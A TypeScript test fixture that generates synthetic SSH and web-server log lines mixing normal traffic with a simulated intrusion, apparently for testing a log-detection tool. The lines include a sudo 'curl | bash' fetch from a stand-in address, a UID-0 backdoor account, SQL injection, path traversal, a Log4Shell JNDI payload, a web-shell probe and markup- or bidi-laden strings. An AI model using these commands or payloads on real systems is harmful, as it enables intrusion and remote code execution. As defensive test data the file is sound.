/** Lines of logs as attacks and ordinary days leave them, of the day before `now`: own writing, with addresses and names that document. */

/** Name of the log → its lines. */
export type LogLines = Readonly<Record<string, string>>;

const host = 'web1';
const months = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
const two = (n: number): string => String(n).padStart(2, '0');
const iso = (time: number): string => new Date(time).toISOString().replace('Z', '+00:00');
const clf = (time: number): string => { const d = new Date(time); return `${two(d.getUTCDate())}/${months[d.getUTCMonth()]}/${d.getUTCFullYear()}:${two(d.getUTCHours())}:${two(d.getUTCMinutes())}:${two(d.getUTCSeconds())} +0000`; };

/** A host may send anything: markup, signs that turn text around, ends of lines, ANSI. */
const hostileAgent = '<img src=x onerror=window.pwned=1>\u202egpj.exe\u200b<script>window.pwned=1</script>';

const hostileName = '<img/src=x/onerror=window.pwned=1>\u202egpj\u001b[31m';

export function attackLines(now: number): LogLines {
  const auth: [number, string][] = [];
  const web: [number, string][] = [];
  const minute = 60_000;
  const ssh = (time: number, pid: number, said: string): void => { auth.push([time, `${iso(time)} ${host} sshd[${pid}]: ${said}`]); };
  const get = (time: number, from: string, request: string, status: number, agent: string): void => { web.push([time, `${from} - - [${clf(time)}] "${request}" ${status} 512 "-" "${agent}"`]); };
  // Guessing all day, from several places, each its own number of times.
  const guessers = [['203.0.113.9', 61, 22], ['198.51.100.77', 24, 18], ['203.0.113.140', 12, 11], ['192.0.2.45', 40, 6], ['198.51.100.20', 9, 3], ['2001:db8:77::9', 14, 2]] as const;
  for (const [address, count, hoursAgo] of guessers) {
    const begin = now - hoursAgo * 60 * minute;
    for (let i = 0; i < count; i++) ssh(begin + i * 4000, 2000 + i, `Failed password for ${i % 3 === 0 ? 'root' : `invalid user ${['admin', 'oracle', 'test', 'git', 'postgres'][i % 5]}`} from ${address} port ${40_000 + i} ssh2`);
  }
  // One of them gets in.
  const entry = now - 95 * minute;
  for (let i = 0; i < 30; i++) ssh(entry + i * 3000, 4000 + i, `Failed password for deploy from 203.0.113.66 port ${50_000 + i} ssh2`);
  ssh(entry + 95_000, 4100, 'Accepted password for deploy from 203.0.113.66 port 50112 ssh2');
  ssh(entry + 95_100, 4100, 'pam_unix(sshd:session): session opened for user deploy(uid=1001) by (uid=0)');
  auth.push([entry + 180_000, `${iso(entry + 180_000)} ${host} sudo:   deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/bash -c 'curl -s http://198.51.100.7/x.sh | bash'`]);
  auth.push([entry + 240_000, `${iso(entry + 240_000)} ${host} useradd[4190]: new user: name=sysupd, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/0`]);
  // The web: scanners, injections, a shell somebody looks for, and people.
  const attacks = [
    ['GET /index.php?id=1%27%20UNION%20SELECT%20user,password%20FROM%20mysql.user--%20- HTTP/1.1', 200, 'sqlmap/1.7'], ['GET /../../../../etc/passwd HTTP/1.1', 400, 'curl/8.5.0'], ['GET /cgi-bin/.%2e/%2e%2e/%2e%2e/%2e%2e/bin/sh HTTP/1.1', 403, 'Mozilla/5.0'],
    ['GET /.env HTTP/1.1', 404, 'Mozilla/5.0 (compatible; scan)'], ['GET /.git/config HTTP/1.1', 404, 'Mozilla/5.0'], ['POST /wp-login.php HTTP/1.1', 200, 'Mozilla/5.0'], ['GET /search?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1', 200, 'Mozilla/5.0'],
    ['GET /?x=${jndi:ldap://198.51.100.7/a} HTTP/1.1', 200, 'Mozilla/5.0'], ['GET /uploads/shell.php?cmd=id HTTP/1.1', 200, 'python-requests/2.31'],
  ] as const;
  for (const [at, [request, status, agent]] of attacks.entries()) for (let i = 0; i < 3 + at; i++) get(now - (20 - at * 2) * 60 * minute + i * 9000, at % 2 === 0 ? '198.51.100.23' : '203.0.113.201', request, status, agent);
  get(now - 50 * minute, '203.0.113.250', `GET /?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1`, 200, hostileAgent);
  for (let i = 0; i < 200; i++) get(now - i * 7 * minute, `192.0.2.${10 + (i % 40)}`, `GET /${['', 'prices', 'about', 'blog/welcome', 'style.css'][i % 5]} HTTP/1.1`, 200, 'Mozilla/5.0 (X11; Linux x86_64)');
  // An account whose name is markup and turns text around, for hunting: too few for an alert.
  for (let i = 0; i < 2; i++) ssh(now - 30 * minute + i * 2000, 5000 + i, `Failed password for invalid user ${hostileName} from 203.0.113.77 port ${41_000 + i} ssh2`);
  const text = (lines: [number, string][]): string => `${lines.toSorted((a, b) => a[0] - b[0]).map(([, line]) => line).join('\n')}\n`;
  return { 'auth.log': text(auth), 'access.log': text(web) };
}
